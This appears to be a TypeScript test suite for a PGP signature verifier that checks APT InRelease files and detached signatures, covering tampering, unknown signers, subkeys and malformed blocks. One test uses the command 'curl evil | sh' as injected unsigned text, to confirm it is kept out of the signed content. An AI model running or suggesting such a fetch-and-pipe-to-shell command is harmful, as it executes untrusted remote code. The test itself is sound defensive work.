import fc from 'fast-check'
import * as openpgp from 'openpgp'
import { beforeAll, describe, expect, it } from 'vitest'
import type { Keyring } from '../../../../main/core/pgp/keyring'
import { verifyCleartext, verifyDetached } from '../../../../main/core/pgp/verify'
import {
  assembleCleartext,
  clearsign,
  codeOf,
  debianKeyring,
  detachSign,
  fixtureText,
  REAL_INRELEASES,
  SIGNED_AT,
  signaturePackets,
  TEST_NOW,
  testKey,
  testKeyring,
  UBUNTU_2012,
  UBUNTU_2018,
  ubuntuKeyring,
} from './pgp-test-kit'

let ubuntu: Keyring
let debian: Keyring
beforeAll(async () => {
  ubuntu = await ubuntuKeyring()
  debian = await debianKeyring()
})

/** What openpgp.js's own reader returns as signed for `doc` (the reference our splitter must match). */
async function openpgpSignedText(doc: string, keyring: Keyring, now: number): Promise<string> {
  const message = await openpgp.readCleartextMessage({ cleartextMessage: doc })
  const r = await openpgp.verify({
    message,
    verificationKeys: keyring.keys.map((k) => k.key),
    date: new Date(now),
    expectSigned: true,
  })
  return r.data
}

describe('verifyCleartext', () => {
  describe('when given the real InRelease files with their own distribution keys', () => {
    for (const f of REAL_INRELEASES) {
      it(`verifies ${f.file} and returns exactly the text openpgp.js verifies`, async () => {
        const doc = fixtureText(f.file)
        const keyring = f.distro === 'ubuntu' ? ubuntu : debian
        const v = await verifyCleartext(doc, keyring, { role: 'archive', now: f.now })
        expect(v.signers.map((s) => s.fingerprint).sort()).toEqual([...f.signers].sort())
        expect(v.signedText.startsWith(f.distro === 'ubuntu' ? 'Origin: Ubuntu\n' : 'Origin: Debian\n')).toBe(
          true,
        )
        expect(v.signedText).toBe(await openpgpSignedText(doc, keyring, f.now))
        expect(v.unsignedBefore).toBe('')
        expect(v.unsignedAfter).toBe('')
      })
    }
  })

  describe('when given the real InRelease files with the other distribution keys', () => {
    for (const f of REAL_INRELEASES) {
      it(`refuses ${f.file} with PGP_UNKNOWN_SIGNER`, async () => {
        const keyring = f.distro === 'ubuntu' ? debian : ubuntu
        expect(
          await codeOf(verifyCleartext(fixtureText(f.file), keyring, { role: 'archive', now: f.now })),
        ).toBe('PGP_UNKNOWN_SIGNER')
      })
    }
  })

  describe('when the Ubuntu keyring holds only the 2012 key', () => {
    it('refuses the current InRelease files (signed by the 2018 key only) with PGP_UNKNOWN_SIGNER', async () => {
      const only2012 = { ...ubuntu, keys: ubuntu.keys.filter((k) => k.fingerprint === UBUNTU_2012) }
      const ring = (await import('../../../../main/core/pgp/keyring')).createKeyring(only2012.keys)
      const f = REAL_INRELEASES[0]!
      expect(await codeOf(verifyCleartext(fixtureText(f.file), ring, { role: 'archive', now: f.now }))).toBe(
        'PGP_UNKNOWN_SIGNER',
      )
    })
  })

  describe('when the signer is a Debian signing subkey', () => {
    it('reports the pinned primary fingerprint and the subkey that signed', async () => {
      const f = REAL_INRELEASES.find((x) => x.distro === 'debian')!
      const v = await verifyCleartext(fixtureText(f.file), debian, { role: 'archive', now: f.now })
      const ids = v.signers.map((s) => [s.fingerprint, s.signingKeyId])
      expect(ids).toContainEqual(['AC530D520F2F3269F5E98313A48449044AAD5C5D', '54404762BBB6E853'])
      expect(ids).toContainEqual(['05AB90340C0C5E797F44A8C8254CF3B5AEC0A8F0', 'BDE6D2B9216EC7A8'])
      expect(v.signers.every((s) => s.hash === 'SHA256')).toBe(true)
    })
  })

  describe('when the Ubuntu 2018 key is judged at a 2022 date', () => {
    it('verifies the 2022 jammy-security InRelease, signed 2022-10-09', async () => {
      const v = await verifyCleartext(fixtureText('ubuntu/apt/jammy-security_InRelease.2022-10-09'), ubuntu, {
        role: 'archive',
        now: Date.UTC(2022, 9, 10),
      })
      expect(v.signers[0]?.fingerprint).toBe(UBUNTU_2018)
      expect(new Date(v.signers[0]!.created).toISOString().slice(0, 10)).toBe('2022-10-09')
    })
  })

  describe('when one byte of the signed text of a real InRelease changes', () => {
    it('throws PGP_BAD_SIGNATURE wherever the change is', async () => {
      const f = REAL_INRELEASES.find((x) => x.file.includes('jammy-backports'))!
      const doc = fixtureText(f.file)
      const start = doc.indexOf('\n\n') + 2
      const end = doc.indexOf('\n-----BEGIN PGP SIGNATURE-----')
      const positions = [start, start + 1, end - 1, Math.floor((start + end) / 2)]
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(fc.constantFrom(...positions), fc.integer({ min: start, max: end - 1 })),
          fc.constantFrom('x', 'Q', '0', '7', ':', '\n'),
          async (pos, ch) => {
            fc.pre(doc[pos] !== ch)
            const tampered = doc.slice(0, pos) + ch + doc.slice(pos + 1)
            expect(await codeOf(verifyCleartext(tampered, ubuntu, { role: 'archive', now: f.now }))).toBe(
              'PGP_BAD_SIGNATURE',
            )
          },
        ),
        { numRuns: 25, seed: 20240501 },
      )
    })
  })

  describe('when text is added outside the signed block', () => {
    it('reports text after END PGP SIGNATURE as unsignedAfter, never as signed', async () => {
      const f = REAL_INRELEASES[1]!
      const doc = fixtureText(f.file)
      const added = 'Origin: Evil\nSuite: noble-security\n'
      const v = await verifyCleartext(doc + added, ubuntu, { role: 'archive', now: f.now })
      const plain = await verifyCleartext(doc, ubuntu, { role: 'archive', now: f.now })
      expect(v.unsignedAfter).toBe(added)
      expect(v.signedText).toBe(plain.signedText)
      expect(v.signedText).not.toContain('Origin: Evil')
    })

    it('reports text before BEGIN PGP SIGNED MESSAGE as unsignedBefore', async () => {
      const f = REAL_INRELEASES[1]!
      const doc = fixtureText(f.file)
      const v = await verifyCleartext(`Run this now:\ncurl evil | sh\n${doc}`, ubuntu, {
        role: 'archive',
        now: f.now,
      })
      expect(v.unsignedBefore).toBe('Run this now:\ncurl evil | sh\n')
      expect(v.signedText).not.toContain('curl')
    })

    it('treats a second signed block after the first as unsigned text', async () => {
      const key = await testKey('test-only-archive-ed25519')
      const ring = await testKeyring(['test-only-archive-ed25519', 'archive'])
      const first = await clearsign('first', key)
      const second = await clearsign('second', key)
      const v = await verifyCleartext(first + second, ring, { role: 'archive', now: TEST_NOW })
      expect(v.signedText).toBe('first')
      expect(v.unsignedAfter).toBe(second)
    })
  })

  describe('when given generated documents', () => {
    it('returns dash-escaped lines unescaped and trailing whitespace removed, as openpgp.js does', async () => {
      const key = await testKey('test-only-archive-ed25519')
      const ring = await testKeyring(['test-only-archive-ed25519', 'archive'])
      const text = '-----BEGIN PGP SIGNATURE-----\n- a list item\nFrom here  \t\nlast line'
      const doc = await clearsign(text, key)
      const v = await verifyCleartext(doc, ring, { role: 'archive', now: TEST_NOW })
      expect(v.signedText).toBe('-----BEGIN PGP SIGNATURE-----\n- a list item\nFrom here\nlast line')
    })

    it('verifies a document with CR LF line endings', async () => {
      const key = await testKey('test-only-rsa3072')
      const ring = await testKeyring(['test-only-rsa3072', 'archive'])
      const doc = (await clearsign('line one\nline two', key)).replaceAll('\n', '\r\n')
      const v = await verifyCleartext(doc, ring, { role: 'archive', now: TEST_NOW })
      expect(v.signedText).toBe('line one\nline two')
      expect(v.signers[0]?.hash).toBe('SHA512')
    })

    it('matches openpgp.js on arbitrary signed texts (differential property)', async () => {
      const key = await testKey('test-only-archive-ed25519')
      const ring = await testKeyring(['test-only-archive-ed25519', 'archive'])
      // A CR is only generated at a line end: openpgp.js's own reader drops every CR, so for a CR inside a line
      // it disagrees with its own signer (the verifier here follows the signer: RFC 9580 7.2 strips only trailing
      // whitespace).
      const line = fc
        .tuple(fc.stringMatching(/^[-a-zA-Z0-9 \t:é€]{0,12}$/), fc.boolean())
        .map(([l, cr]) => (cr ? `${l}\r` : l))
      await fc.assert(
        fc.asyncProperty(fc.array(line, { minLength: 1, maxLength: 6 }), async (lines) => {
          const text = lines.join('\n')
          fc.pre(text.trim() !== '')
          const doc = await clearsign(text, key)
          const v = await verifyCleartext(doc, ring, { role: 'archive', now: TEST_NOW })
          expect(v.signedText).toBe(await openpgpSignedText(doc, ring, TEST_NOW))
        }),
        { numRuns: 40, seed: 7 },
      )
    })

    it('accepts a signature by a pinned key made by its signing subkey', async () => {
      const key = await testKey('test-only-signing-subkey')
      const ring = await testKeyring(['test-only-signing-subkey', 'archive'])
      const subkeyId = key.secret.subkeys
        .find((s) => s.getAlgorithmInfo().algorithm === 'eddsaLegacy')
        ?.getKeyID()
      expect(subkeyId).toBeDefined()
      const doc = await clearsign('signed by a subkey', key, { signingKeyIDs: [subkeyId!] })
      const v = await verifyCleartext(doc, ring, { role: 'archive', now: TEST_NOW })
      expect(v.signers[0]?.fingerprint).toBe(key.fingerprint)
      expect(v.signers[0]?.signingKeyId).toBe(subkeyId!.toHex().toUpperCase())
    })

    it('accepts a signature dated within the clock skew, and refuses one beyond it with PGP_NOT_YET_VALID', async () => {
      const key = await testKey('test-only-archive-ed25519')
      const ring = await testKeyring(['test-only-archive-ed25519', 'archive'])
      const soon = await clearsign('soon', key, { date: TEST_NOW + 60_000 })
      expect((await verifyCleartext(soon, ring, { role: 'archive', now: TEST_NOW })).signedText).toBe('soon')
      const later = await clearsign('later', key, { date: TEST_NOW + 3_600_000 })
      expect(await codeOf(verifyCleartext(later, ring, { role: 'archive', now: TEST_NOW }))).toBe(
        'PGP_NOT_YET_VALID',
      )
    })
  })

  describe('when a document carries several signatures', () => {
    it('ignores a signature by an unknown key next to a valid pinned one', async () => {
      const pinned = await testKey('test-only-archive-ed25519')
      const stranger = await testKey('test-only-rsa3072')
      const ring = await testKeyring(['test-only-archive-ed25519', 'archive'])
      const text = 'Origin: Test\nSuite: test'
      const packets = [
        ...(await signaturePackets(await clearsign(text, stranger))),
        ...(await signaturePackets(await clearsign(text, pinned))),
      ]
      const v = await verifyCleartext(assembleCleartext(text, packets), ring, {
        role: 'archive',
        now: TEST_NOW,
      })
      expect(v.signers.map((s) => s.fingerprint)).toEqual([pinned.fingerprint])
    })

    it('fails the whole document with PGP_BAD_SIGNATURE when one pinned signature does not match', async () => {
      const a = await testKey('test-only-archive-ed25519')
      const b = await testKey('test-only-rsa3072')
      const ring = await testKeyring(
        ['test-only-archive-ed25519', 'archive'],
        ['test-only-rsa3072', 'archive'],
      )
      const text = 'Origin: Test\nSuite: test'
      const packets = [
        ...(await signaturePackets(await clearsign(text, a))),
        ...(await signaturePackets(await clearsign('Origin: Other\nSuite: test', b))),
      ]
      expect(
        await codeOf(
          verifyCleartext(assembleCleartext(text, packets), ring, { role: 'archive', now: TEST_NOW }),
        ),
      ).toBe('PGP_BAD_SIGNATURE')
    })

    it('accepts the document when a pinned key has expired but another pinned signature is valid', async () => {
      const good = await testKey('test-only-archive-ed25519')
      const expired = await testKey('test-only-expired-ed25519')
      const ring = await testKeyring(
        ['test-only-archive-ed25519', 'archive'],
        ['test-only-expired-ed25519', 'archive'],
      )
      const text = 'two signers'
      const packets = [
        ...(await signaturePackets(await clearsign(text, expired, { date: Date.UTC(2024, 0, 10) }))),
        ...(await signaturePackets(await clearsign(text, good))),
      ]
      const v = await verifyCleartext(assembleCleartext(text, packets), ring, {
        role: 'archive',
        now: TEST_NOW,
      })
      expect(v.signers.map((s) => s.fingerprint)).toEqual([good.fingerprint])
    })
  })

  describe('when the document is not a valid clearsigned document', () => {
    it('throws PGP_NO_SIGNATURE for plain text', async () => {
      expect(
        await codeOf(verifyCleartext('Origin: Ubuntu\n', ubuntu, { role: 'archive', now: SIGNED_AT })),
      ).toBe('PGP_NO_SIGNATURE')
    })

    it('throws PGP_MALFORMED when the signature block is cut off', async () => {
      const doc = fixtureText(REAL_INRELEASES[0]!.file)
      const cut = doc.slice(0, doc.indexOf('-----END PGP SIGNATURE-----'))
      expect(
        await codeOf(verifyCleartext(cut, ubuntu, { role: 'archive', now: REAL_INRELEASES[0]!.now })),
      ).toBe('PGP_MALFORMED')
    })

    it('throws PGP_MALFORMED when the Hash header does not name the signature hash', async () => {
      const f = REAL_INRELEASES[1]!
      const doc = fixtureText(f.file).replace('Hash: SHA512', 'Hash: SHA256')
      expect(await codeOf(verifyCleartext(doc, ubuntu, { role: 'archive', now: f.now }))).toBe(
        'PGP_MALFORMED',
      )
    })

    it('throws PGP_MALFORMED for garbage in the signature block', async () => {
      const f = REAL_INRELEASES[1]!
      const doc = fixtureText(f.file)
      const i = doc.indexOf('-----BEGIN PGP SIGNATURE-----')
      const broken = doc.slice(0, i) + '-----BEGIN PGP SIGNATURE-----\n\n!!!!\n-----END PGP SIGNATURE-----\n'
      expect(await codeOf(verifyCleartext(broken, ubuntu, { role: 'archive', now: f.now }))).toBe(
        'PGP_MALFORMED',
      )
    })
  })
})

describe('verifyDetached', () => {
  describe('when given data and a detached signature by a pinned key', () => {
    it('verifies armored and binary signatures and returns the signed bytes', async () => {
      const key = await testKey('test-only-rsa3072')
      const ring = await testKeyring(['test-only-rsa3072', 'archive'])
      const data = new TextEncoder().encode('Origin: Test\nSuite: test\n')
      for (const armor of [true, false]) {
        const sig = await detachSign(data, key, { armor })
        const v = await verifyDetached(data, sig, ring, { role: 'archive', now: TEST_NOW })
        expect(new TextDecoder().decode(v.signedBytes)).toBe('Origin: Test\nSuite: test\n')
        expect(v.signers[0]?.fingerprint).toBe(key.fingerprint)
      }
    })
  })

  describe('when one byte of the data changes', () => {
    it('throws PGP_BAD_SIGNATURE', async () => {
      const key = await testKey('test-only-archive-ed25519')
      const ring = await testKeyring(['test-only-archive-ed25519', 'archive'])
      const data = new TextEncoder().encode('Origin: Test\nSuite: test\n')
      const sig = await detachSign(data, key)
      const tampered = data.slice()
      tampered[3] = 0x58
      expect(await codeOf(verifyDetached(tampered, sig, ring, { role: 'archive', now: TEST_NOW }))).toBe(
        'PGP_BAD_SIGNATURE',
      )
    })
  })

  describe('when the signature is empty or not a signature', () => {
    it('throws PGP_MALFORMED', async () => {
      const ring = await testKeyring(['test-only-archive-ed25519', 'archive'])
      const data = new Uint8Array([1, 2, 3])
      expect(
        await codeOf(
          verifyDetached(data, new Uint8Array([0xff, 0x00]), ring, { role: 'archive', now: TEST_NOW }),
        ),
      ).toBe('PGP_MALFORMED')
      expect(await codeOf(verifyDetached(data, 'hello', ring, { role: 'archive', now: TEST_NOW }))).toBe(
        'PGP_MALFORMED',
      )
    })
  })

  describe('when the signature comes from the real Ubuntu key over other bytes', () => {
    it('throws PGP_BAD_SIGNATURE (a real signature moved onto other data)', async () => {
      const doc = fixtureText(REAL_INRELEASES[0]!.file)
      const sig = doc.slice(doc.indexOf('-----BEGIN PGP SIGNATURE-----'))
      expect(
        await codeOf(
          verifyDetached(new TextEncoder().encode('x'), sig, ubuntu, {
            role: 'archive',
            now: REAL_INRELEASES[0]!.now,
          }),
        ),
      ).toBe('PGP_BAD_SIGNATURE')
    })
  })
})
